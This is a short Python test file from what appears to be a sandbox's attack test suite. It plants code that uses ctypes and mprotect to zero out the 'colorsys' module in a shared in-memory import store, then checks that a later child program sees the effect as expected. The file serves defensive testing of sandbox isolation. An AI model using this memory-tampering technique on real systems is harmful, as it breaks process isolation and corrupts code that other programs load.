"""Overwrites the standard library that its server holds in memory, so that the next program imports the attacker's.
Seen: found here, against the memory file that serves imports to later children.
"""

from tests.sandbox.attacks.arena.attack import Program
from tests.sandbox.attacks.arena.hostile import with_ctypes

PLANT = with_ctypes("""
def f():
    for loader in [finder for finder in sys.meta_path if hasattr(finder, "_data")]:
        at, length, _, _ = loader._index["colorsys"]
        buffer = (ctypes.c_char * 80)()
        ctypes.pythonapi.PyObject_GetBuffer.argtypes = [ctypes.py_object, ctypes.c_void_p, ctypes.c_int]
        ctypes.pythonapi.PyObject_GetBuffer(loader._data, ctypes.addressof(buffer), 0)
        target = ctypes.c_void_p.from_buffer(buffer).value
        page = (target + at) & ~4095
        libc.mprotect(ctypes.c_void_p(page), ctypes.c_size_t(length + 8192), 3)
        ctypes.memset(target + at, 0, length)
""")
LOOK = "def f():\n    import colorsys\n    return colorsys.rgb_to_hsv(0, 0, 0)[2]"
ATTACK = Program(before=PLANT, source=LOOK, ends="ok exception", value="0", exceptions="ModuleNotFoundError")
